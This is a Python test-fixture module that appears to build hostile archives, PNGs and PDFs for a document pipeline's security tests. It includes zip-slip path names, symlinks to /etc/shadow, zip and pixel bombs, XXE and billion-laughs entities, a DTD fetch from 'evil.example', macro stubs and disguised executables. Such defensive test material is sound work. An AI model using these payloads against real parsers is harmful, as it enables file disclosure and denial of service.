"""Archives that reach out of their folder, swell, hide macros or other files, or refer to what lies elsewhere."""

import stat
import zipfile
import zlib
from io import BytesIO

from tests.workflow.hostile.recipes import DOCX, Made, archive, docx, ofd, outside, pdf, png, xlsx, zeros

BIG = 120 * 1024 * 1024
XXE = b"<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/hostname'>]><a>&x;</a>"
LAUGHS = (
    b"<!DOCTYPE a [<!ENTITY a0 'ha'>"
    + b"".join(b"<!ENTITY a%d '%s'>" % (n, b"&a%d;" % (n - 1) * 10) for n in range(1, 10))
    + b"]><a>&a9;</a>"
)
PARAMETER = b"<!DOCTYPE a [<!ENTITY % p SYSTEM 'http://evil.example/x.dtd'> %p;]><a/>"


def special(name: str, mode: int, body: bytes = b"/etc/passwd") -> bytes:
    """A word file with a member of a special sort (link, device)."""
    out = BytesIO(docx())
    with zipfile.ZipFile(out, "a") as made:
        member = zipfile.ZipInfo(name)
        member.external_attr, member.create_system = mode << 16, 3
        made.writestr(member, body)
    return out.getvalue()


def locked() -> bytes:
    """A word file whose members claim to be encrypted."""
    data = bytearray(docx())
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = -1
        while (at := data.find(mark, at + 1)) >= 0:
            data[at + offset] |= 1
    return bytes(data)


def liar() -> bytes:
    """A word file whose big member claims to be small."""
    data = docx({"word/media/a.png": bytes(BIG // 4)})
    return data.replace((BIG // 4).to_bytes(4, "little"), (1000).to_bytes(4, "little"))


WAYS_OUT = (
    "../evil.xml", "word/../../evil.xml", "/etc/evil.xml", "C:/evil.xml", "word\\..\\..\\evil.xml", "word//evil.xml",
    "./evil.xml", "word/\u202eevil.xml", "word/a\nb.xml", "～/../evil.xml",
)  # fmt: skip
TRAVERSALS = {f"slip-{place}.docx": docx({name: b"<a/>"}) for place, name in enumerate(WAYS_OUT)}
LINKS = {
    "link.docx": special("word/link.xml", stat.S_IFLNK | 0o777),
    "link-out.docx": special("word/media/a.png", stat.S_IFLNK | 0o777, b"../../../../etc/shadow"),
    "device.docx": special("word/dev.xml", stat.S_IFCHR | 0o666, b""),
    "pipe.docx": special("word/pipe.xml", stat.S_IFIFO | 0o666, b""),
    "twice.docx": docx({"WORD/DOCUMENT.XML": b"<a/>"}),
    "locked.docx": locked(),
    "cut.docx": docx()[:-30],
    "torn.xlsx": xlsx().replace(b"PK\x01\x02", b"PK\x09\x09"),
}
BOMBS: dict[str, Made] = {
    "bomb.docx": lambda: docx({"word/media/a.png": bytes(BIG)}),
    "bomb.xlsx": lambda: xlsx({"xl/worksheets/sheet1.xml": b"<a>" + bytes(BIG) + b"</a>"}),
    "ratio.docx": lambda: docx({"word/media/a.png": bytes(20 * 1024 * 1024)}),
    "bomb.zip": lambda: archive({"a": bytes(BIG)}),
    "nested.docx": lambda: docx({"word/embeddings/a.zip": archive({"b.zip": archive({"c": bytes(1 << 20)})})}),
    "quine-like.xlsx": lambda: xlsx({"xl/embeddings/a.xlsx": xlsx()}),
    "many.docx": lambda: docx({f"word/media/{n}.png": b"x" for n in range(10_000)}),
    "liar.docx": liar,
    "bomb.gz": lambda: zlib.compress(bytes(1 << 20)),
    "pixels.png": lambda: png(100_000, 100_000),
    "wide.png": lambda: png(2_000_000_000, 1),
    "many-pixels.png": lambda: png(8001, 5000, data=(b"\0" + bytes(1001)) * 5000),
    "text-bomb.png": lambda: png(8, 8, *[(b"zTXt", b"a\0\0" + zeros(4)) for _ in range(20)], data=b"\0" * 16),
    "profile-bomb.png": lambda: png(8, 8, (b"iCCP", b"a\0\0" + zeros(300)), data=b"\0" * 16),
    "twice-packed.pdf": lambda: pdf(
        lambda made: setattr(
            made.Root, "Extra", made.make_indirect(made.make_stream(zlib.compress(zeros(300)), Filter="/FlateDecode"))
        )
    ),
}
ENTITIES = {
    "xxe.docx": docx(body=XXE),
    "laughs.docx": docx(body=LAUGHS),
    "parameter.docx": docx(body=PARAMETER),
    "xxe.xlsx": xlsx(body=XXE),
    "laughs.xlsx": xlsx(body=LAUGHS),
    "xxe-utf16.xlsx": xlsx(body=XXE.decode().encode("utf-16")),
    "xxe-rels.docx": docx({"word/_rels/document.xml.rels": XXE}),
    "xxe.ofd": ofd(body=XXE),
    "laughs.ofd": ofd({"Doc_0/Document.xml": LAUGHS}),
}
MACROS = {
    "vba.docx": docx({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}),
    "vba.xlsx": xlsx({"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0"}),
    "sheet.xlsx": xlsx({"xl/macrosheets/sheet1.xml": b"<a/>"}),
    "control.docx": docx({"word/activeX/activeX1.xml": b"<a/>"}),
    "type.docx": docx(kind=DOCX.replace("openxmlformats-officedocument.wordprocessingml.document", "ms-word.document.macroEnabled")),
    "named.docm": docx(),
    "named.xlsm": xlsx(),
    "ole.docx": docx({"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}),
    "hidden-ole.docx": docx({"word/media/image1.png": b"\xd0\xcf\x11\xe0" + bytes(600)}),
    "hidden-exe.xlsx": xlsx({"xl/media/image1.png": b"MZ" + bytes(600)}),
    "page-inside.docx": docx({"word/afchunk.htm": b"<script>alert(1)</script>"}),
    "page.ofd": ofd({"Doc_0/a.html": b"<script>alert(1)</script>"}),
}  # fmt: skip
ELSEWHERE = {
    f"{what}.{kind}": make({place: outside(what)})
    for what in ("attachedTemplate", "oleObject", "frame", "image", "externalLinkPath")
    for kind, make, place in (
        ("docx", docx, "word/_rels/document.xml.rels"),
        ("xlsx", xlsx, "xl/_rels/workbook.xml.rels"),
    )
}
